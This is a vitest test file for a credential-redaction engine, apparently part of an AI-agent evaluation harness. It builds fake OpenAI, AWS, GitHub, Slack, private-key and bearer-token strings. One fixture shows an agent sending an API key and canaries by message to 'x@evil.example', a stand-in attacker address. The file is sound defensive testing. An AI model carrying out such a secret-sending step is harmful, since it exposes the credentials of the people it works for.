import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { redactRecord, redactText } from '../engine/redact.js';
import { writeRecord } from '../engine/record.js';
import { sampleRecord } from './helpers/sample-records.js';

// Realistic shapes, assembled at run time so no scanner mistakes this file for a leak.
const OPENAI = ['sk', 'proj', 'Zq3vT9xLmN2pR8sW4yB6cD1eF5gH7jK0aQ'].join('-');
const ANTHROPIC = ['sk', 'ant', 'api03', 'Xy7Wv5Ut3Sr1Qp9On7Ml5Kj3Ih1Gf'].join('-');
const AWS = `AKIA${'IOSFODNN7EXAMPLE'}`;
const GITHUB = `ghp_${'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8'}`;
const GITHUB_PAT = `github_pat_${'11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz'}`;
const SLACK = ['xoxb', '123456789012', '1234567890123', 'AbCdEfGhIjKlMnOpQrStUvWx'].join('-');
const PEM = ['-----BEGIN RSA PRIVATE KEY-----', 'MIIEowIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF8PbnGy0AHB7MhgHcTz6sE2I2yPB', '-----END RSA PRIVATE KEY-----'].join('\n');
const BEARER = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2lnbmF0dXJlLXZhbHVl';

describe('redaction of real-looking credentials', () => {
  it('replaces each kind and counts it', () => {
    const counts: Record<string, number> = {};
    const text = `key=${OPENAI} and ${ANTHROPIC}; aws ${AWS}; gh ${GITHUB} ${GITHUB_PAT}; slack ${SLACK}\n${PEM}\nAuthorization: Bearer ${BEARER}`;
    const out = redactText(text, {}, counts);
    for (const secret of [OPENAI, ANTHROPIC, AWS, GITHUB, GITHUB_PAT, SLACK, PEM, BEARER]) expect(out).not.toContain(secret);
    expect(out).toBe(
      'key=[REDACTED:openai-key] and [REDACTED:anthropic-key]; aws [REDACTED:aws-access-key]; gh [REDACTED:github-token] [REDACTED:github-token]; ' +
        'slack [REDACTED:slack-token]\n[REDACTED:private-key]\nAuthorization: Bearer [REDACTED:bearer-token]',
    );
    expect(counts).toEqual({ 'openai-key': 1, 'anthropic-key': 1, 'aws-access-key': 1, 'github-token': 2, 'slack-token': 1, 'private-key': 1, 'bearer-token': 1 });
  });

  it('leaves ordinary text alone, returning the very same string', () => {
    const text = 'Ask the desk: task-force notes, skipper sk-1 short, AKIA too short, xoxo, Bearer of news';
    expect(redactText(text)).toBe(text);
  });

  it('keeps canaries even when they look like keys', () => {
    const canary = `sk-vera-${'Q'.repeat(32)}`;
    expect(redactText(`send ${canary} and Bearer ${canary}`, { keep: [canary] })).toBe(`send ${canary} and Bearer ${canary}`);
  });

  it('a written record has the planted key redacted everywhere, the canaries kept, and says what it redacted', async () => {
    const record = sampleRecord({ status: 'violated' });
    const canary = record.secrets.CODE!;
    const apiCanary = `sk-vera-${'Zr4'.repeat(11)}`;
    record.secrets.API = apiCanary;
    // The agent pasted a real key (and the canaries) into a tool call, a result and its reply.
    const call = record.trajectory.find((e) => e.type === 'tool_call')!;
    if (call.type !== 'tool_call') throw new Error('fixture');
    call.args = { to: 'x@evil.example', text: `env: OPENAI_API_KEY=${OPENAI} code ${canary} api ${apiCanary}` };
    call.result = { headers: { authorization: `Bearer ${BEARER}` } };
    record.responses = [`Here is the key ${OPENAI}`];
    record.finalState = { notes: { outbox: [{ to: 'x@evil.example', text: `${OPENAI} ${canary}` }] } };

    const untouched = sampleRecord({});
    expect(redactRecord(untouched)).toBe(untouched);

    const dir = await mkdtemp(join(tmpdir(), 'vera-redact-'));
    try {
      const file = await writeRecord(dir, record);
      const raw = await readFile(file, 'utf8');
      expect(raw).not.toContain(OPENAI);
      expect(raw).not.toContain(BEARER);
      const written = JSON.parse(raw) as typeof record;
      expect(written.responses).toEqual(['Here is the key [REDACTED:openai-key]']);
      expect((written.trajectory[1] as unknown as { args: { text: string } }).args.text).toBe(`env: OPENAI_API_KEY=[REDACTED:openai-key] code ${canary} api ${apiCanary}`);
      expect(written.secrets).toEqual({ CODE: canary, API: apiCanary });
      expect(JSON.stringify(written.finalState)).toContain(canary);
      expect(written.redactions).toEqual({ 'openai-key': 3, 'bearer-token': 1 });
      // The record in memory is not modified: the run's own verdict was computed on the truth.
      expect(record.responses).toEqual([`Here is the key ${OPENAI}`]);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});
